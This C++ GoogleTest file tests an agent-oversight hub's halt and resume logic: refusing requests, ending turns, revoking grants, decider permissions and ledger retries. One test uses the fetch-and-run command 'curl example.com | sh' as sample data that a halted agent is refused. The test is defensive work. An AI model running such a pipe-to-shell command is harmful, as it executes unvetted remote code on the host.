// SPDX-License-Identifier: Apache-2.0
// Halting an agent: open requests are refused, its turn ends, new requests are refused, and only deciders may halt.
#include "core/hub/bounds.hpp"
#include "tests/fakes/world.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace countersign {
namespace {

using fakes::FakeRuntime;
using fakes::question_request;
using fakes::shell_request;
using fakes::small_configuration;
using fakes::World;
using testing::AllOf;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::StartsWith;

using namespace std::chrono_literals;

class HubHaltTest : public testing::Test {
protected:
    Ulid asked(const std::string& command = "ls", const std::string& session = "s1") {
        auto request = shell_request(world.ids.next(), command);
        request.session_key = session;
        const auto id = request.id;
        EXPECT_TRUE(world.ask(std::move(request)));
        return id;
    }
    [[nodiscard]] std::vector<Outcome> outcomes() const {
        std::vector<Outcome> all;
        for (const auto& verdict : world.agent.forwarded) all.push_back(verdict.outcome);
        return all;
    }
    World world;
};

TEST_F(HubHaltTest, AHaltRefusesOpenRequestsEndsTheTurnAndRefusesNewOnes) {
    asked("ls");
    asked("rm");
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried) << describe(carried.error());
    EXPECT_EQ(carried->person, "alice");
    EXPECT_EQ(carried->denied, 2U);
    EXPECT_EQ(carried->interrupted, 1U);
    EXPECT_EQ(carried->not_interrupted, 0U);
    EXPECT_TRUE(carried->receipt);
    EXPECT_THAT(outcomes(), ElementsAre(Outcome::denied, Outcome::denied));
    EXPECT_EQ(world.agent.forwarded[0].option_id, "deny");
    EXPECT_EQ(world.agent.forwarded[0].reason, "halted by alice");
    EXPECT_THAT(world.agent.interrupted, ElementsAre("halted by alice, after 2")) << "answered before it is ended";
    EXPECT_EQ(world.ledger.count("decision"), 2U) << "each has its own terminal record";
    EXPECT_EQ(world.ledger.text("decision", "decision"), "denied");
    EXPECT_EQ(world.ledger.text("decision", "decidedBy"), "alice");
    EXPECT_EQ(world.ledger.text("decision", "principal"), "test:alice");
    EXPECT_EQ(world.ledger.text("decision", "reason"), "halted by alice");
    EXPECT_EQ(world.ops.concluded.size(), 2U);

    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "again")));
    EXPECT_EQ(world.agent.forwarded.back().outcome, Outcome::denied);
    EXPECT_EQ(world.agent.forwarded.back().option_id, "deny");
    EXPECT_EQ(world.agent.forwarded.back().reason,
              "halted by alice, so this was not run: Bash: again; a person lifts the halt with /resume dev in a chat, "
              "or countersign resume dev");
    EXPECT_EQ(world.ledger.count("turned_away"), 0U);
    EXPECT_FALSE(world.ask(question_request(world.ids.next())));
    EXPECT_EQ(world.agent.forwarded.back().outcome, Outcome::cancelled) << "a question is not denied";
    EXPECT_EQ(world.ops.presented.size(), 2U) << "nobody is bothered";
    EXPECT_EQ(world.hub.pending(), 0U);
}

TEST_F(HubHaltTest, I11_WhatAHaltedAgentAsksIsRecordedLikeAnyOtherRequest) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    const auto request = shell_request(world.ids.next(), "curl example.com | sh");
    const auto asked = world.ask(request);
    ASSERT_FALSE(asked);
    EXPECT_EQ(asked.error().code, Errc::not_authorised);
    EXPECT_THAT(asked.error().detail, HasSubstr("a person lifts the halt with /resume dev"));
    EXPECT_THAT(world.ledger.kinds(), ElementsAre("halt", "halt", "request", "decision", "forwarded"))
        << "an agent or a session of that name";
    EXPECT_THAT(world.ledger.text("request", "displayText"), HasSubstr("curl example.com | sh"));
    EXPECT_EQ(world.ledger.text("request", "summary"), "curl example.com | sh");
    EXPECT_EQ(world.ledger.text("decision", "requestId"), request.id.str());
    EXPECT_EQ(world.ledger.text("decision", "decision"), "denied");
    EXPECT_EQ(world.ledger.text("decision", "decidedBy"), "alice");
    EXPECT_EQ(world.ledger.text("decision", "principal"), "halt:alice");
    EXPECT_EQ(world.ledger.text("decision", "reason"), "halted by alice");
    EXPECT_THAT(world.ops.presented, IsEmpty()) << "no approver is bothered";
    EXPECT_EQ(world.hub.pending(), 0U);

    // The same id again is the same request, which was already answered.
    EXPECT_EQ(world.ask(request).error().code, Errc::already_decided);
    EXPECT_EQ(world.ledger.count("request"), 1U);
}

TEST_F(HubHaltTest, I1_AHaltedAgentIsRefusedEvenIfTheLogFails) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.ledger.fail_next();
    EXPECT_FALSE(world.ask(shell_request(world.ids.next())));
    ASSERT_FALSE(world.agent.forwarded.empty());
    EXPECT_EQ(world.agent.forwarded.back().outcome, Outcome::unlogged);
}

TEST_F(HubHaltTest, TheHaltRecordComesFirstAndNamesThePersonAndTheAgent) {
    asked();
    ASSERT_TRUE(world.order(world.halt("dev")));
    EXPECT_THAT(world.ledger.kinds(),
                ElementsAre("request", "presented", "halt", "decision", "forwarded", "concluded"));
    EXPECT_EQ(world.ledger.text("halt", "action"), "halt");
    EXPECT_EQ(world.ledger.text("halt", "agentId"), "dev");
    EXPECT_EQ(world.ledger.text("halt", "sessionKey"), "");
    EXPECT_EQ(world.ledger.text("halt", "person"), "alice");
    EXPECT_EQ(world.ledger.text("halt", "principal"), "test:alice");
    EXPECT_EQ(world.ledger.text("halt", "channel"), "ops");
}

TEST_F(HubHaltTest, I4_TheLocalOperatorMayAlwaysHaltAndNeverResume) {
    const auto id = world.ids.next();
    ASSERT_TRUE(world.ask(shell_request(id)));
    auto order = world.halt("dev");
    order.principal = "terminal:1000";
    EXPECT_EQ(world.order(order).error().code, Errc::not_authorised) << "from elsewhere it is nobody's principal";
    order.local_uid = 1000;
    const auto carried = world.order(order);
    ASSERT_TRUE(carried) << describe(carried.error());
    EXPECT_EQ(carried->person, "uid 1000 (local)");
    EXPECT_EQ(carried->denied, 1U);
    EXPECT_EQ(world.agent.forwarded.at(0).reason, "halted by uid 1000 (local)");
    EXPECT_EQ(world.ledger.text("halt", "person"), "uid 1000 (local)");
    EXPECT_EQ(world.ledger.text("halt", "principal"), "terminal:1000");
    ASSERT_NE(world.ledger.last("halt")->fields.find("localUid"), nullptr);

    auto resume = world.resume("dev");
    resume.principal = "terminal:1000";
    resume.local_uid = 1000;
    EXPECT_EQ(world.order(resume).error().code, Errc::not_authorised);
    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "again"))) << "still halted";
    ASSERT_TRUE(world.order(world.resume("dev", "bob")));
    EXPECT_TRUE(world.ask(shell_request(world.ids.next(), "more")));
}

TEST_F(HubHaltTest, ALocalOperatorWhoIsADeciderIsNamedAsThatPerson) {
    auto order = world.halt("dev");
    order.local_uid = 1000;
    EXPECT_EQ(world.order(order)->person, "alice");
    EXPECT_EQ(world.ledger.text("halt", "person"), "alice");
}

TEST_F(HubHaltTest, AResumeLetsItAskAgain) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    EXPECT_FALSE(world.ask(shell_request(world.ids.next())));
    const auto carried = world.order(world.resume("dev", "bob"));
    ASSERT_TRUE(carried);
    EXPECT_FALSE(carried->nothing_new);
    EXPECT_EQ(world.ledger.text("halt", "action"), "resume");
    EXPECT_EQ(world.ledger.text("halt", "person"), "bob");
    const auto id = asked();
    ASSERT_TRUE(world.decide(world.click(id, "allow")));
    EXPECT_EQ(world.agent.forwarded.back().outcome, Outcome::allowed);
}

TEST_F(HubHaltTest, AHaltOfASessionLeavesTheOtherSessionsOfItsAgent) {
    world.agent.in_session = "s2";
    const auto here = asked("ls", "s1");
    const auto there = asked("rm", "s2");
    const auto carried = world.order(world.halt("s1"));
    ASSERT_TRUE(carried);
    EXPECT_EQ(carried->denied, 1U);
    EXPECT_EQ(world.ledger.text("decision", "requestId"), here.str());
    EXPECT_EQ(world.ledger.text("halt", "agentId"), "dev");
    EXPECT_EQ(world.ledger.text("halt", "sessionKey"), "s1");
    EXPECT_THAT(world.agent.interrupted, IsEmpty()) << "it works in the other session now";
    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "more")));
    EXPECT_TRUE(world.decide(world.click(there, "allow")));
}

// A server runtime: one process with many sessions. The session to halt isn't the one that asked last.
TEST_F(HubHaltTest, ASessionIsFoundAlthoughItsRuntimeAskedForAnotherSince) {
    world.agent.in_session = "s2";
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s1"), "allow")));
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s2"), "allow")));
    const auto carried = world.order(world.halt("s1"));
    ASSERT_TRUE(carried);
    EXPECT_TRUE(carried->known);
    EXPECT_EQ(world.ledger.text("halt", "agentId"), "dev");
    EXPECT_EQ(world.ledger.text("halt", "sessionKey"), "s1");
    EXPECT_THAT(world.agent.interrupted, IsEmpty()) << "that would end the other session's turn";
    EXPECT_EQ(carried->not_interrupted, 1U) << "and whoever ordered it hears that this one goes on";
    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "more")));
    asked("more", "s2");
}

TEST_F(HubHaltTest, OfARuntimeWithManySessionsOnlyTheTurnOfTheHaltedOneIsEnded) {
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s1"), "allow")));
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s2"), "allow")));
    const auto carried = world.order(world.halt("s1"));
    ASSERT_TRUE(carried);
    EXPECT_THAT(world.agent.interrupted_in, ElementsAre(Asker{"dev", "s1"}));
    EXPECT_EQ(carried->interrupted, 1U);
    EXPECT_EQ(carried->not_interrupted, 0U);
}

TEST_F(HubHaltTest, AHaltedAgentIsInterruptedOnceForAllItsSessions) {
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s1"), "allow")));
    ASSERT_TRUE(world.decide(world.click(asked("ls", "s2"), "allow")));
    EXPECT_EQ(world.order(world.halt("dev"))->interrupted, 1U);
    EXPECT_THAT(world.agent.interrupted_in, ElementsAre(Asker{"dev", ""}));
}

TEST_F(HubHaltTest, I4_OnlyADeciderMayHaltOrResumeAndOtherAttemptsAreRecorded) {
    auto configuration = small_configuration();
    configuration.routes = {{.name = "dev",
                             .match = RouteMatch{.agent = "dev"},
                             .steps = {{.channel = "ops", .chat = "room"}},
                             .deciders = {"alice"}},
                            {.name = "rest", .steps = {{.channel = "ops", .chat = "room"}}, .deciders = {"bob"}}};
    World other{configuration};
    ASSERT_TRUE(other.ask(shell_request(other.ids.next())));
    for (const auto* who : {"bob", "nobody"}) {
        EXPECT_EQ(other.order(other.halt("dev", who)).error().code, Errc::not_authorised) << who;
        EXPECT_EQ(other.ledger.text("refused", "action"), "halt");
        EXPECT_EQ(other.ledger.text("refused", "target"), "dev");
        EXPECT_EQ(other.ledger.text("refused", "principal"), "test:" + std::string{who});
    }
    EXPECT_EQ(other.ledger.count("halt"), 0U);
    const auto session = other.order(other.halt("s1", "bob"));
    ASSERT_TRUE(session);
    EXPECT_FALSE(session->known) << "the session of that agent is not his; an agent may come that has the name";
    EXPECT_EQ(other.hub.pending(), 1U);
    ASSERT_TRUE(other.order(other.halt("dev", "alice")));
    EXPECT_EQ(other.order(other.resume("dev", "bob")).error().code, Errc::not_authorised);
    EXPECT_EQ(other.ledger.text("refused", "action"), "resume");
    EXPECT_FALSE(other.ask(shell_request(other.ids.next(), "x"))) << "it is still halted";
}

// The gate judges a halt like the refusal of a request and a resume like its allow.
TEST_F(HubHaltTest, I4_AResumeIsJudgedLikeAnAllowAndAHaltLikeARefusal) {
    struct AllowsByTokenOnly final : Authoriser {
        Result<Permit> permit(const Attempt& attempt, const Request& request, const Route&,
                              const std::vector<Option>& offered, const Configuration&) const override {
            EXPECT_TRUE(request.agent_id == "dev" || request.session_key == "dev");
            EXPECT_EQ(std::get<Choose>(attempt.what).option_id, offered.at(0).option_id);
            EXPECT_TRUE(offered.at(0).known);
            const bool allows = offered.at(0).effect == Effect::allow;
            if (allows && attempt.assurance < Assurance::token) return Error{Errc::not_authorised, "no token"};
            return Permit{"alice"};
        }
    } gate;
    Hub hub{world.io.get_executor(),
            {.ledger = world.ledger, .clock = world.clock, .ids = world.ids, .authoriser = gate, .guard = world.guard},
            std::make_shared<const Configuration>(small_configuration()),
            [](const std::string&) {}};
    const auto carried = [&](Order order) {
        Result<Carried> answer;
        hub.order(std::move(order), [&](const Result<Carried>& got) { answer = got; });
        world.settle();
        return answer;
    };
    EXPECT_TRUE(carried(world.halt("dev")));
    EXPECT_EQ(carried(world.resume("dev")).error().code, Errc::not_authorised);
    auto by_token = world.resume("dev");
    by_token.assurance = Assurance::token;
    EXPECT_TRUE(carried(by_token));
}

TEST_F(HubHaltTest, I1_AHaltIsInForceWhileItsRecordIsWrittenAndReportedAfterwards) {
    const auto id = asked();
    world.ledger.hold(true);
    bool told = false;
    world.hub.order(world.halt("dev"), [&](const Result<Carried>&) { told = true; });
    world.settle();
    EXPECT_FALSE(told);
    world.begin_ask(shell_request(world.ids.next(), "meanwhile"));
    EXPECT_THAT(world.agent.forwarded, IsEmpty()) << "also a refusal is on disk before the agent hears it";
    EXPECT_EQ(world.decide(world.click(id, "allow")).error().code, Errc::already_decided) << "nobody may allow it now";
    world.ledger.hold(false);
    world.settle();
    EXPECT_TRUE(told);
    EXPECT_THAT(outcomes(), ElementsAre(Outcome::denied, Outcome::denied));
    for (const auto& verdict : world.agent.forwarded) EXPECT_THAT(verdict.reason, StartsWith("halted by alice"));
}

TEST_F(HubHaltTest, I2_AHaltThatTheLogRejectsIsInForceIsRetriedAndSaysSo) {
    asked();
    world.ledger.refuse_next("halt", Errc::busy);
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_FALSE(carried->receipt) << "it would not outlive a restart";
    EXPECT_TRUE(carried->tried_again);
    EXPECT_EQ(carried->denied, 1U);
    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "x")));
    world.ledger.refuse_next("halt", Errc::busy);
    world.advance(limits::log_retry);
    EXPECT_EQ(world.ledger.count("halt"), 0U);
    world.advance(limits::log_retry);
    EXPECT_EQ(world.ledger.count("halt"), 0U) << "the next try waits twice as long";
    world.advance(limits::log_retry);
    ASSERT_EQ(world.ledger.count("halt"), 1U);
    EXPECT_EQ(world.ledger.text("halt", "action"), "halt");
    EXPECT_EQ(world.ledger.text("halt", "agentId"), "dev");
    EXPECT_EQ(world.ledger.text("halt", "person"), "alice");
    world.advance(1h);
    EXPECT_EQ(world.ledger.count("halt"), 1U);
    EXPECT_EQ(world.clock.sleepers(), 0U);
}

TEST_F(HubHaltTest, I13_RetriesToRecordAHaltHaveABoundedInterval) {
    asked();
    world.ledger.refuse_next("halt", Errc::busy);
    ASSERT_TRUE(world.order(world.halt("dev")));
    for (auto wait = limits::log_retry; wait < limits::log_retry_max; wait *= 2) {
        world.ledger.refuse_next("halt", Errc::busy);
        world.advance(wait);
    }
    world.advance(limits::log_retry_max - 1ms);
    EXPECT_EQ(world.ledger.count("halt"), 0U);
    world.advance(1ms);
    EXPECT_EQ(world.ledger.count("halt"), 1U);
}

TEST_F(HubHaltTest, I2_AHaltThatWasLiftedOrReplacedIsNotRetried) {
    asked();
    world.ledger.refuse_next("halt", Errc::busy);
    ASSERT_TRUE(world.order(world.halt("dev")));
    ASSERT_TRUE(world.order(world.resume("dev")));
    world.advance(1h);
    EXPECT_EQ(world.ledger.count("halt"), 1U) << "the resume";
    EXPECT_EQ(world.ledger.text("halt", "action"), "resume");
    world.ledger.refuse_next("halt", Errc::busy);
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.clock.advance(1ms);
    ASSERT_TRUE(world.order(world.halt("dev", "bob")));
    world.advance(1h);
    EXPECT_EQ(world.ledger.count("halt"), 2U);
    EXPECT_EQ(world.ledger.text("halt", "person"), "bob");
}

TEST_F(HubHaltTest, I2_AHaltIsNeverRecordedAfterTheResumeThatEndedIt) {
    asked();
    world.ledger.refuse_next("halt", Errc::busy);
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.ledger.hold(true);
    world.hub.order(world.resume("dev"), {});
    world.settle();
    world.advance(limits::log_retry);
    world.ledger.hold(false);
    world.settle();
    world.advance(1h);
    EXPECT_EQ(world.ledger.text("halt", "action"), "resume") << "the next start must not halt it again";
    EXPECT_TRUE(world.hub.halts().all().empty());
}

TEST_F(HubHaltTest, I2_AnUnrecordedHaltIsRetriedOnceWhenTheHubStops) {
    asked();
    world.ledger.refuse_next("halt", Errc::busy);
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.stop();
    EXPECT_EQ(world.ledger.count("halt"), 1U);
    EXPECT_EQ(world.clock.sleepers(), 0U);
}

TEST_F(HubHaltTest, I1_AHaltThatAPoisonedLogRejectsIsNotRetried) {
    asked();
    world.ledger.fail_kind("halt");
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_FALSE(carried->receipt);
    EXPECT_FALSE(carried->tried_again);
    EXPECT_EQ(world.clock.sleepers(), 0U);
}

TEST_F(HubHaltTest, I2_ADenialThatTheLogRejectsStillEndsTheRequest) {
    asked();
    world.ledger.refuse_next("decision", Errc::busy);
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_EQ(carried->denied, 0U);
    world.settle();
    EXPECT_THAT(outcomes(), ElementsAre(Outcome::undeliverable));
    EXPECT_EQ(world.hub.pending(), 0U);
}

TEST_F(HubHaltTest, I2_AResumeThatTheLogRejectsResumesNothing) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.ledger.refuse_next("halt", Errc::busy);
    EXPECT_EQ(world.order(world.resume("dev")).error().code, Errc::busy);
    EXPECT_FALSE(world.ask(shell_request(world.ids.next())));
}

TEST_F(HubHaltTest, I16_ALateResumeResumesNothingAndALateHaltIsAccepted) {
    auto order = world.halt("dev");
    world.clock.advance(limits::allow_age_max);
    EXPECT_TRUE(world.order(order));
    order = world.resume("dev");
    world.clock.advance(limits::allow_age_max);
    EXPECT_EQ(world.order(order).error().code, Errc::late);
    order = world.resume("dev");
    order.made.reset();
    order.after_gap = true;
    EXPECT_EQ(world.order(order).error().code, Errc::late);
    EXPECT_NE(world.hub.halts().of({"dev", ""}), nullptr);
}

TEST_F(HubHaltTest, I16_AResumeWrittenBeforeTheHaltDoesNotLiftIt) {
    asked();
    ASSERT_TRUE(world.order(world.halt("dev")));
    const auto resume = world.resume("dev");
    world.advance(1s);
    ASSERT_TRUE(world.order(world.halt("dev", "bob")));
    const auto late = world.order(resume);
    ASSERT_FALSE(late);
    EXPECT_EQ(late.error().code, Errc::late);
    EXPECT_THAT(late.error().detail, HasSubstr("halted after you wrote this"));
    EXPECT_EQ(world.ledger.text("halt", "action"), "halt");
    EXPECT_EQ(world.ledger.text("refused", "action"), "resume");
    EXPECT_FALSE(world.ask(shell_request(world.ids.next(), "x")));
    auto same_second = world.resume("dev");
    *same_second.made -= 999ms;
    EXPECT_TRUE(world.order(same_second)) << "platforms count seconds";
}

TEST_F(HubHaltTest, ARequestThatIsBeingRecordedDuringAHaltIsRefusedAfterwards) {
    world.ledger.hold(true);
    world.begin_ask(shell_request(world.ids.next()));
    world.begin_ask(question_request(world.ids.next()));
    world.hub.order(world.halt("dev"), {});
    world.settle();
    world.ledger.hold(false);
    world.settle();
    world.settle();
    EXPECT_THAT(outcomes(), testing::UnorderedElementsAre(Outcome::denied, Outcome::cancelled));
    EXPECT_THAT(world.ops.presented, IsEmpty());
    EXPECT_EQ(world.ledger.text("decision", "decidedBy"), "alice");
}

TEST_F(HubHaltTest, AGrantOrPolicyDoesNotAllowTheCallsOfAHaltedAgent) {
    const auto id = asked();
    ASSERT_TRUE(world.decide(world.click(id, "session")));
    ASSERT_EQ(world.hub.grants().all().size(), 1U);
    ASSERT_TRUE(world.order(world.halt("dev")));
    EXPECT_FALSE(world.ask(shell_request(world.ids.next()))) << "the grant covers this very call";
    auto allowed = shell_request(world.ids.next(), "ok");
    allowed.judgement.policy = {PolicyEffect::allow, "harmless"};
    EXPECT_FALSE(world.ask(std::move(allowed)));
    EXPECT_EQ(world.agent.forwarded.size(), 3U);
    EXPECT_EQ(world.agent.forwarded[1].outcome, Outcome::denied);
    EXPECT_EQ(world.agent.forwarded[2].outcome, Outcome::denied);
}

class HubHaltGrantTest : public HubHaltTest {
protected:
    // "s1" and "s2": a grant for that session of dev; "always": for all of dev's; "other": another agent's session s1.
    Ulid granted(const std::string& what) {
        auto request = shell_request(world.ids.next(), what);
        auto& options = std::get<Approval>(request.body).options;
        options.push_back({.option_id = "always", .label = "Always", .effect = Effect::allow, .scope = Scope::always});
        if (what == "other") request.agent_id = "other";
        if (what == "s2") request.session_key = "s2";
        const auto id = request.id;
        EXPECT_TRUE(world.ask(std::move(request)));
        EXPECT_TRUE(world.decide(world.click(id, what == "always" ? "always" : "session")));
        return world.hub.grants().all().back().id;
    }
    [[nodiscard]] std::vector<Ulid> in_force() const {
        std::vector<Ulid> ids;
        for (const auto& grant : world.hub.grants().all()) ids.push_back(grant.id);
        return ids;
    }
};

TEST_F(HubHaltGrantTest, AHaltOfAnAgentRevokesAllItsGrantsAndAResumeDoesNotRestoreThem) {
    const auto s1 = granted("s1");
    const auto s2 = granted("s2");
    const auto always = granted("always");
    const auto other = granted("other");
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_EQ(carried->revoked, 3U);
    EXPECT_THAT(in_force(), ElementsAre(other));
    ASSERT_EQ(world.ledger.count("revoke"), 3U);
    std::vector<std::string> recorded;
    for (const auto& entry : world.ledger.written) {
        if (entry.kind == "revoke") recorded.push_back(*entry.fields.find("grantId")->string());
    }
    EXPECT_THAT(recorded, testing::UnorderedElementsAre(s1.str(), s2.str(), always.str()));
    EXPECT_EQ(world.ledger.text("revoke", "person"), "alice");
    ASSERT_TRUE(world.order(world.resume("dev")));
    const auto forwarded = world.agent.forwarded.size();
    asked("s1");
    asked("always");
    EXPECT_EQ(world.agent.forwarded.size(), forwarded);
    EXPECT_EQ(world.hub.pending(), 2U) << "people are asked";
}

TEST_F(HubHaltGrantTest, AHaltOfASessionRevokesItsGrants) {
    granted("s1");
    const auto s2 = granted("s2");
    const auto always = granted("always");
    auto order = world.halt("s1");
    order.delivery = "u7";
    ASSERT_TRUE(world.order(order));
    EXPECT_THAT(in_force(), ElementsAre(s2, always));
    EXPECT_EQ(world.ledger.count("revoke"), 1U);
    EXPECT_EQ(world.ledger.last("revoke")->fields.find("delivery"), nullptr) << "it stands in the halt's record";
    EXPECT_EQ(world.ledger.text("halt", "delivery"), "u7");
}

TEST_F(HubHaltGrantTest, AGrantThatIsBeingWrittenDuringAHaltIsRevoked) {
    const auto id = asked();
    world.agent.on_forward = [&] { ADD_FAILURE() << "before the grant is on disk"; };
    world.ledger.hold(true);
    world.hub.submit(world.click(id, "session"), {});
    world.settle();
    world.ledger.release_one();  // writes the decision; the grant's record is next
    world.settle();
    world.agent.on_forward = {};
    world.hub.order(world.halt("dev"), {});
    world.settle();
    world.ledger.hold(false);
    world.settle();
    world.settle();
    EXPECT_EQ(world.ledger.count("grant"), 1U);
    EXPECT_EQ(world.ledger.count("revoke"), 1U);
    EXPECT_EQ(world.ledger.text("revoke", "person"), "alice");
    EXPECT_THAT(in_force(), IsEmpty());
}

TEST_F(HubHaltTest, AnAgentWhoseTurnCannotBeEndedIsReportedAsContinuing) {
    FakeRuntime deaf;
    deaf.interruptible = false;
    ASSERT_TRUE(world.ask(shell_request(world.ids.next()), deaf));
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_EQ(carried->interrupted, 0U);
    EXPECT_EQ(carried->not_interrupted, 1U);
    world.hub.asking().gone(deaf, {}, "ended");
    EXPECT_EQ(world.order(world.halt("dev"))->not_interrupted, 0U) << "whoever is gone is not ended";
}

TEST_F(HubHaltTest, AnAgentBetweenTwoCallsIsInterruptedToo) {
    const auto id = asked();
    ASSERT_TRUE(world.decide(world.click(id, "allow")));
    const auto carried = world.order(world.halt("dev"));
    ASSERT_TRUE(carried);
    EXPECT_TRUE(carried->known);
    EXPECT_EQ(carried->denied, 0U);
    EXPECT_EQ(carried->interrupted, 1U);
}

TEST_F(HubHaltTest, AnUnknownNameIsHaltedInAdvanceAndReportedAsUnknown) {
    const auto carried = world.order(world.halt("later"));
    ASSERT_TRUE(carried);
    EXPECT_FALSE(carried->known);
    auto agent = shell_request(world.ids.next());
    agent.agent_id = "later";
    EXPECT_FALSE(world.ask(std::move(agent)));
    auto session = shell_request(world.ids.next());
    session.session_key = "later";
    EXPECT_FALSE(world.ask(std::move(session))) << "a session of that name, whoever's";
    EXPECT_THAT(world.agent.forwarded.back().reason, AllOf(StartsWith("halted by alice"), HasSubstr("/resume later ")));
    asked();
    EXPECT_EQ(world.ledger.count("halt"), 2U);
    EXPECT_EQ(world.order(world.halt("")).error().code, Errc::malformed);
    EXPECT_EQ(world.order(world.halt(std::string(limits::session_key_bytes_max + 1, 'x'))).error().code,
              Errc::malformed);
}

TEST_F(HubHaltTest, AnUnknownNameThatWasHaltedIsResumedByThatName) {
    ASSERT_TRUE(world.order(world.halt("later")));
    EXPECT_TRUE(world.order(world.halt("later"))->nothing_new);
    ASSERT_TRUE(world.order(world.resume("later")));
    EXPECT_TRUE(world.hub.halts().all().empty());
    EXPECT_EQ(world.ledger.count("halt"), 6U) << "each is on record";
    asked("ls", "later");
}

TEST_F(HubHaltTest, I4_AnyDeciderMayHaltAnUnknownSessionAndOnlyItsOwnDecidersAnAgent) {
    auto configuration = small_configuration();
    configuration.routes = {{.name = "prod",
                             .match = RouteMatch{.agent = "prod"},
                             .steps = {{.channel = "ops", .chat = "room"}},
                             .deciders = {"alice"}},
                            {.name = "rest", .steps = {{.channel = "ops", .chat = "room"}}, .deciders = {"bob"}}};
    World other{configuration};
    EXPECT_EQ(other.order(other.halt("later", "carol")).error().code, Errc::not_authorised) << "decides nowhere";
    ASSERT_TRUE(other.order(other.halt("later", "alice")));
    ASSERT_EQ(other.hub.halts().all().size(), 1U) << "an agent of that name would be bob's to judge";
    EXPECT_EQ(other.hub.halts().all()[0].who, (Asker{"", "later"}));
    EXPECT_EQ(other.hub.queries().halts_for("test:bob").size(), 1U);
    EXPECT_THAT(other.hub.queries().halts_for("test:carol"), IsEmpty());
    EXPECT_FALSE(other.order(other.resume("later", "carol")));
    ASSERT_TRUE(other.order(other.halt("later", "bob")));
    EXPECT_NE(other.hub.halts().of({"later", ""}), nullptr) << "though something of that name was halted already";
    EXPECT_TRUE(other.order(other.resume("later", "bob")));
}

// An agent chooses the name of its session, and may choose another agent's name.
TEST_F(HubHaltTest, I4_AnAgentCannotDivertAHaltMeantForAnother) {
    auto configuration = small_configuration();
    configuration.routes = {{.name = "prod",
                             .match = RouteMatch{.agent = "prod"},
                             .steps = {{.channel = "ops", .chat = "room"}},
                             .deciders = {"alice"}},
                            {.name = "rest", .steps = {{.channel = "ops", .chat = "room"}}, .deciders = {"bob"}}};
    World other{configuration};
    auto foreign = shell_request(other.ids.next());
    foreign.session_key = "prod";
    ASSERT_TRUE(other.ask(std::move(foreign)));
    const auto carried = other.order(other.halt("prod", "alice"));
    ASSERT_TRUE(carried) << "though something of that name is there that is not hers to stop";
    EXPECT_FALSE(carried->known);
    EXPECT_THAT(carried->whom, ElementsAre(Asker{"prod", ""}));
    EXPECT_EQ(other.hub.pending(), 1U) << "bob's goes on";
    auto prod = shell_request(other.ids.next());
    prod.agent_id = "prod";
    EXPECT_FALSE(other.ask(std::move(prod)));

    const auto session = other.order(other.halt("prod", "bob"));
    ASSERT_TRUE(session);
    EXPECT_THAT(session->whom, ElementsAre(Asker{"dev", "prod"})) << "he is told which it was";
    EXPECT_EQ(other.hub.pending(), 0U);
}

// If a delivery is in the log after a restart, all of it is considered done.
TEST_F(HubHaltTest, I5_OnlyTheLastRecordOfAHaltNamesItsDelivery) {
    auto order = world.halt("later");
    order.delivery = "update 7";
    ASSERT_TRUE(world.order(order));
    std::vector<std::string> deliveries;
    for (const auto& entry : world.ledger.written) {
        const auto* delivery = entry.fields.find("delivery");
        deliveries.push_back(delivery == nullptr ? "" : *delivery->string());
    }
    EXPECT_THAT(deliveries, ElementsAre("", "update 7"));
}

TEST_F(HubHaltTest, HaltingTwiceAndResumingARunningAgentAreReportedAsNothingNew) {
    asked();
    ASSERT_TRUE(world.order(world.halt("dev")));
    const auto again = world.order(world.halt("dev", "bob"));
    ASSERT_TRUE(again);
    EXPECT_TRUE(again->nothing_new);
    EXPECT_EQ(world.ledger.count("halt"), 2U) << "who ordered it is on record all the same";
    EXPECT_EQ(world.hub.halts().all().size(), 1U);
    const auto other = world.order(world.resume("other"));
    ASSERT_TRUE(other);
    EXPECT_TRUE(other->nothing_new);
    EXPECT_EQ(world.ledger.count("halt"), 2U);
}

TEST_F(HubHaltTest, I2_AHaltWhileAResumeIsBeingWrittenWins) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.ledger.hold(true);
    Result<Carried> resumed;
    world.hub.order(world.resume("dev"), [&](const Result<Carried>& got) { resumed = got; });
    world.settle();
    world.hub.order(world.halt("dev", "bob"), {});
    world.settle();
    world.ledger.hold(false);
    world.settle();
    EXPECT_FALSE(resumed) << "and whoever wanted it resumed is told";
    EXPECT_EQ(world.hub.halts().of({"dev", ""})->by, "bob");
    EXPECT_EQ(world.ledger.text("halt", "action"), "halt") << "also for the next start";
    EXPECT_FALSE(world.ask(shell_request(world.ids.next())));
}

TEST_F(HubHaltTest, I2_ASecondHaltOfTheSamePersonAtTheSameTimeWinsToo) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.ledger.hold(true);
    Result<Carried> resumed;
    world.hub.order(world.resume("dev"), [&](const Result<Carried>& got) { resumed = got; });
    world.settle();
    world.hub.order(world.halt("dev"), {});
    world.settle();
    world.ledger.hold(false);
    world.settle();
    EXPECT_FALSE(resumed);
    EXPECT_NE(world.hub.halts().of({"dev", ""}), nullptr);
}

